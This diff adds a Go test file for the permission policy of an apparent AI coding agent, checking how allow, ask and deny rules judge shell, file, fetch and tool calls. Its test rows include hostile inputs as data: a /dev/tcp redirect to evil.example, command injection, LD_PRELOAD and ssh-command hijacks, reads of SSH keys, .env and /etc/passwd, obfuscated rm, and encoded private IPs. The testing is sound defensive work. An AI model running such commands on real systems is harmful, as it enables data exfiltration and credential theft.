@@ -1,0 +1,322 @@
+package permission
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/tenon-agent/tenon/tool"
+)
+
+// TestRules judges calls, written as in examples, by rules.
+func TestRules(t *testing.T) {
+	type row struct {
+		call string
+		want Verdict
+	}
+	tests := []struct {
+		name  string
+		mode  Mode
+		rules []string
+		rows  []row
+	}{
+		{"commands are allowed word by word", AskMode, []string{"allow shell(git push *)"}, []row{
+			{"shell(git push)", Allow},
+			{"shell(git push origin main)", Allow},
+			{"shell('git' pu''sh origin)", Allow},
+			{"shell(ls && git push)", Allow},
+			{"shell(git push && git push --tags)", Allow},
+			{"shell(sh -c 'git push')", Allow},
+			{"shell(timeout 5 git push)", Allow},
+			{"shell(git pushx)", Ask},
+			{"shell(git push; rm x)", Ask},
+			{"shell(git push && evil)", Ask},
+			{"shell(git push $(evil))", Ask},
+			{"shell(git push $branch)", Ask},
+			{"shell(git push \"$branch\")", Ask},
+			{"shell(git push > out)", Ask},
+			{"shell(git push > /etc/passwd)", Ask},
+			{"shell(git push < /etc/passwd)", Ask},
+			{"shell(git push > /dev/tcp/evil.example/80)", Ask},
+			{"shell(GIT_SSH_COMMAND=evil git push)", Ask},
+			{"shell(PATH=.:$PATH; git push)", Ask},
+			{"shell(env LD_PRELOAD=a git push)", Ask},
+			{"shell(git -c core.sshCommand=evil push)", Ask},
+			{"shell(sudo git push)", Ask},
+			{"shell(ssh host git push)", Ask},
+			{"shell(./git push)", Ask},
+			{"shell(/tmp/git push)", Ask},
+			{"shell(cd /tmp && git push)", Ask},
+			{"shell(cd $x && git push)", Ask},
+			{"shell(alias git=evil; git push)", Ask},
+			{"shell(git() { evil; }; git push)", Ask},
+			{"shell(git push (", Ask},
+			{"shell(echo a | xargs git push)", Ask},
+		}},
+		{"a star between words is one word", AskMode, []string{"allow shell(git * main)"}, []row{
+			{"shell(git push main)", Allow}, {"shell(git push origin main)", Ask}, {"shell(git push)", Ask}, {"shell(git p* main)", Ask},
+		}},
+		{"quotes are text", AskMode, []string{`allow shell(git commit -m 'a * b')`}, []row{
+			{"shell(git commit -m 'a * b')", Allow}, {"shell(git commit -m 'a x b')", Ask},
+		}},
+		{"programs by their path", AskMode, []string{"allow shell(./test.sh *)"}, []row{
+			{"shell(./test.sh -v)", Allow},
+			{"shell(/w/test.sh)", Allow},
+			{"shell(cd sub && ./test.sh)", Ask},
+			{"shell(cd sub && ../test.sh)", Allow},
+			{"shell(test.sh)", Ask},
+			{"shell(bash ./test.sh)", Ask},
+		}},
+		{"bare shell allows what cannot be judged", AskMode, []string{"allow shell"}, []row{
+			{"shell(evil $x)", Allow}, {"shell(ls ()", Allow}, {"shell(rm -rf x > y)", Allow}, {"shell(cat ~/.ssh/id)", Deny}, {"write(a)", Ask},
+		}},
+		{"one command is enough to deny", Yolo, []string{"deny shell(rm *)"}, []row{
+			{"shell(rm x)", Deny},
+			{"shell(cd x && rm -rf y)", Deny},
+			{"shell(echo $(rm x))", Deny},
+			{"shell(A=1 rm x)", Deny},
+			{"shell(rm x > y)", Deny},
+			{"shell(echo a | xargs rm)", Deny},
+			{"shell(sh -c 'rm x')", Deny},
+			{"shell(/bin/rm x)", Deny},
+			{"shell(\\rm x)", Deny},
+			{"shell(RM x)", Deny},
+			{"shell(find . -exec rm {} +)", Deny},
+			{"shell(sudo rm x)", Deny},
+			{"shell(ssh host rm x)", Deny},
+			{"shell(eval 'r''m x')", Deny},
+			{"shell(rm)", Deny},
+			{"shell(ls rm)", Allow},
+			{"shell(echo 'rm x')", Allow},
+			{"shell($x y)", Ask},
+			{"shell(rm ()", Ask},
+		}},
+		{"options do not hide a command", Yolo, []string{"deny shell(git push *)", "deny shell(git reset --hard *)", "deny shell(rm -r *)"}, []row{
+			{"shell(git push)", Deny},
+			{"shell(git -C sub push origin)", Deny},
+			{"shell(git --no-pager push)", Deny},
+			{"shell(git -c a=b -C x push)", Deny},
+			{"shell(git commit -m push)", Allow},
+			{"shell(git log)", Allow},
+			{"shell(git reset HEAD --hard)", Deny},
+			{"shell(git reset --har)", Deny},
+			{"shell(git reset)", Allow},
+			{"shell(rm -fr x)", Deny},
+			{"shell(rm x -r)", Deny},
+			{"shell(rm x)", Allow},
+			{"shell(git $x)", Ask},
+			{"shell(git log $x)", Allow},
+		}},
+		{"wrappers are denied by name", Yolo, []string{"deny shell(sudo *)", "deny shell(bash *)"}, []row{
+			{"shell(sudo ls)", Deny}, {"shell(bash -c ls)", Deny}, {"shell(ls)", Allow},
+		}},
+		{"the wider rule that denies wins over the narrow one that allows", AskMode, []string{"allow shell(git push origin main)", "deny shell(git *)"}, []row{
+			{"shell(git push origin main)", Deny}, {"shell(git log)", Deny},
+		}},
+		{"asking wins over allowing", Auto, []string{"allow shell(git push *)", "ask shell(git push *)", "ask write(docs/**)"}, []row{
+			{"shell(git push)", Ask}, {"write(docs/a.md)", Ask}, {"write(src/a.go)", Allow}, {"shell(touch docs/a)", Ask}, {"shell(touch src/a)", Allow},
+		}},
+		{"paths hold whoever touches them", AskMode, []string{"allow write(docs/**)", "allow read(/usr/include/**)", "allow read(~/notes)", "deny read(*.pem)", "deny write(docs/secret/)"}, []row{
+			{"write(docs/a/b.md)", Allow},
+			{"edit(docs/a.md)", Allow},
+			{"write(docs.md)", Ask},
+			{"write(src/docs/a)", Ask},
+			{"shell(touch docs/a)", Allow},
+			{"shell(echo x > docs/a)", Allow},
+			{"shell(echo x > docs/../a)", Ask},
+			{"shell(rm -r docs)", Ask},
+			{"read(/usr/include/stdio.h)", Allow},
+			{"shell(cat /usr/include/stdio.h)", Allow},
+			{"read(/usr/lib/a)", Ask},
+			{"read(~/notes/a)", Allow},
+			{"read(a.pem)", Deny},
+			{"read(x/y/a.pem)", Deny},
+			{"shell(cat x/a.pem)", Deny},
+			{"shell(grep x < a.pem)", Deny},
+			{"grep(a.pem)", Deny},
+			{"write(docs/secret/a)", Deny},
+			{"shell(cat $x)", Ask},
+			{"shell(cat *.pe?)", Ask},
+		}},
+		{"edit means all that edit", AskMode, []string{"allow edit(src/*.go)"}, []row{
+			{"edit(src/a.go)", Allow}, {"multi_edit(src/a.go)", Allow}, {"patch(src/a.go)", Allow}, {"edit(src/x/a.go)", Ask}, {"write(src/a.go)", Ask},
+		}},
+		{"hosts", AskMode, []string{"allow fetch(example.com)", "allow fetch(*.example.org:443)", "deny fetch(10.0.0.0/8)", "deny fetch(bad.example.com)"}, []row{
+			{"fetch(example.com)", Allow},
+			{"fetch(EXAMPLE.com.:8443)", Allow},
+			{"fetch(www.example.com)", Ask},
+			{"fetch(example.com.evil.net)", Ask},
+			{"fetch(a.example.org:443)", Allow},
+			{"fetch(a.example.org:80)", Ask},
+			{"fetch(a.example.org)", Ask},
+			{"fetch(example.org:443)", Ask},
+			{"fetch(10.1.2.3)", Deny},
+			{"fetch(10.1.2.3:80)", Deny},
+			{"fetch(0xa010203)", Deny},
+			{"fetch(10.66051)", Deny},
+			{"fetch([::ffff:10.1.2.3]:80)", Deny},
+			{"fetch(11.1.2.3)", Ask},
+			{"download(example.com)", Allow},
+			{"shell(curl https://10.0.0.1/)", Deny},
+			{"shell(curl https://example.com/)", Ask},
+		}},
+		{"names", AskMode, []string{"allow mcp(hub/get_*)", "deny mcp(db/*)", "allow agent(review)", "deny question", "allow lint"}, []row{
+			{"mcp(hub/get_issue)", Allow},
+			{"mcp(hub/close)", Ask},
+			{"mcp(db/query)", Deny},
+			{"agent(review)", Allow},
+			{"agent(other)", Ask},
+			{"question", Deny},
+			{"todo", Allow},
+			{"lint", Allow},
+		}},
+		{"no rule allows what the mode denies", Plan, []string{"allow *", "allow shell", "allow write", "allow unconfined"}, []row{
+			{"write(a)", Deny}, {"shell(rm x)", Deny}, {"shell(make)", Deny}, {"fetch(example.com)", Allow}, {"read(/etc/passwd)", Allow}, {"read(.env)", Deny},
+		}},
+		{"everything", Yolo, []string{"deny *"}, []row{{"read(a)", Deny}, {"todo", Deny}, {"shell(ls)", Deny}}},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			p := policy(t, test.mode, test.rules...)
+			for _, row := range test.rows {
+				line := ""
+				if text, ok := strings.CutPrefix(row.call, "shell("); ok {
+					line = strings.TrimSuffix(text, ")")
+				}
+				c, err := p.example(line, row.call)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if d := p.Judge(c); d.Verdict != row.want {
+					t.Errorf("%s: %s, want %s\n%s", row.call, d.Verdict, row.want, d)
+				}
+			}
+		})
+	}
+}
+
+func TestEffectsOfTools(t *testing.T) {
+	tests := []struct {
+		name string
+		call Call
+		want string // in the order of Modes
+	}{
+		{"nothing", Call{Tool: "todo"}, "++++++"},
+		{"read", Call{Tool: "read", Effects: tool.Effects{Reads: []tool.Path{tool.File("/w/a")}}}, "++++++"},
+		{"read outside", Call{Tool: "read", Effects: tool.Effects{Reads: []tool.Path{tool.File("/etc/a")}}}, "-???++"},
+		{"read a secret", Call{Tool: "read", Effects: tool.Effects{Reads: []tool.Path{tool.File("/w/.env")}}}, "-----+"},
+		{"search", Call{Tool: "grep", Effects: tool.Effects{Reads: []tool.Path{tool.Tree("/w")}}}, "++++++"},
+		{"write", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/a")}}}, "--?+++"},
+		{"write what is protected", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/.git/hooks/a")}}}, "--???+"},
+		{"delete a folder with protected files", Call{Tool: "delete", Effects: tool.Effects{Writes: []tool.Path{tool.Tree("/w/.git")}}}, "--???+"},
+		{"write outside", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/wx")}}}, "--???+"},
+		{"both ends of a rename", Call{Tool: "patch", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/a"), tool.File("/x")}}}, "--???+"},
+		{"fetch", Call{Tool: "fetch", Effects: tool.Effects{Hosts: []string{"example.com"}}}, "-????+"},
+		{"of a server", Call{Tool: "mcp__a__b", Effects: tool.Effects{Exec: true}}, "-????+"},
+		{"unconfined", Call{Tool: "shell", Effects: tool.Effects{Command: "ls", Unconfined: true}}, "--???+"},
+		{"agent", Call{Tool: "agent", Effects: tool.Effects{Agents: true}}, "-???++"},
+		{"question", Call{Tool: "question", Effects: tool.Effects{Asks: true}}, "++++++"},
+		{"job", Call{Tool: "job", Effects: tool.Effects{Command: "make", Exec: true}}, "--??++"},
+		{"command and file", Call{Tool: "x", Effects: tool.Effects{Command: "ls", Writes: []tool.Path{tool.File("/etc/a")}}}, "--???+"},
+	}
+	p := policy(t, "")
+	for _, test := range tests {
+		got := ""
+		for _, m := range Modes() {
+			got += string(signs[p.InMode(m).Judge(test.call).Verdict])
+		}
+		if got != test.want {
+			t.Errorf("%s: %s, want %s", test.name, got, test.want)
+		}
+	}
+}
+
+func TestUnconfined(t *testing.T) {
+	for rules, want := range map[string]Verdict{
+		"allow shell": Ask, "allow *": Ask, "allow unconfined(go test *)": Allow, "allow unconfined": Allow, "allow unconfined(go *);deny shell(go test *)": Deny,
+	} {
+		p := policy(t, AskMode, strings.Split(rules, ";")...)
+		d := p.Judge(Call{Tool: "shell", Effects: tool.Effects{Command: "go test ./...", Unconfined: true, Exec: true}})
+		if d.Verdict != want {
+			t.Errorf("%s: %s, want %s", rules, d, want)
+		}
+	}
+	p := policy(t, AskMode, "allow unconfined(go test *)")
+	if d := p.Judge(Call{Tool: "shell", Effects: tool.Effects{Command: "go test; go build", Unconfined: true, Exec: true}}); d.Verdict != Ask {
+		t.Errorf("%s", d)
+	}
+	if d := p.Judge(p.Command("go test")); d.Verdict != Ask {
+		t.Errorf("a rule for outside the sandbox allows inside: %s", d)
+	}
+}
+
+func TestAutoWithoutSandbox(t *testing.T) {
+	p, err := New(Options{Mode: Auto, Root: "/w"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := p.Judge(p.Command("make"))
+	if d.Verdict != Ask || !strings.Contains(d.Rule, "as mode ask") || len(p.Warnings()) != 1 || !strings.Contains(p.Warnings()[0], "does not confine") {
+		t.Errorf("%s%q", d, p.Warnings())
+	}
+}
+
+func TestOr(t *testing.T) {
+	p := policy(t, AskMode)
+	for line, want := range map[string]string{
+		"git push":     "nobody can be asked here, allow it with --allow 'shell(git push *)' or --mode auto",
+		"touch a":      "allow it with --allow 'shell(touch a)' or --mode edits",
+		"evil":         "nobody can be asked here, allow it with --mode auto",
+		"kill -9 1":    "nobody can be asked here, allow it with --mode yolo",
+		"echo x > a":   "--allow 'write(./a)' or --mode edits",
+		"make | tee a": "nobody can be asked here, allow it with --mode auto",
+	} {
+		d := p.Judge(p.Command(line)).Or(Deny)
+		if d.Verdict != Deny || !strings.HasSuffix(d.Reason, want) {
+			t.Errorf("%s: %s: %s, want %s", line, d.Verdict, d.Reason, want)
+		}
+	}
+	if d := p.Judge(p.Command("ls")).Or(Deny); d.Verdict != Allow {
+		t.Errorf("%s", d)
+	}
+}
+
+func TestUnreadable(t *testing.T) {
+	p := policy(t, AskMode, "deny read(*.pem)", "ask read(b)")
+	if r, ok := p.Unreadable("/w/x/a.pem"); !ok || r.Text() != "read(*.pem)" {
+		t.Errorf("%v, %t", r, ok)
+	}
+	if _, ok := p.Unreadable("/w/b"); ok {
+		t.Error("what is asked about is not denied")
+	}
+	search := Call{Tool: "grep", Effects: tool.Effects{Reads: []tool.Path{tool.Tree("/w")}}}
+	if d := p.Judge(search); d.Verdict != Ask {
+		t.Errorf("a search may show what must not be read: %s", d)
+	}
+	p.options.Filtered = true
+	if d := p.With(parse(t, User, "deny read(c/**)")...).Judge(search); d.Verdict != Ask || !strings.Contains(d.Reason, "read(b)") {
+		t.Errorf("%s", d)
+	}
+}
+
+func TestJSON(t *testing.T) {
+	p := policy(t, AskMode)
+	data, err := json.Marshal(p.Judge(p.Command("ls && git push $x")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got struct {
+		Verdict, Rule, Mode string
+		Commands            []struct {
+			Words   []string
+			Dynamic []int
+			Verdict string
+		}
+	}
+	if err := json.Unmarshal(data, &got); err != nil {
+		t.Fatal(err)
+	}
+	if got.Verdict != "ask" || got.Rule != "mode ask" || len(got.Commands) != 2 || got.Commands[0].Verdict != "allow" || got.Commands[1].Dynamic[0] != 2 {
+		t.Errorf("%s", data)
+	}
+}
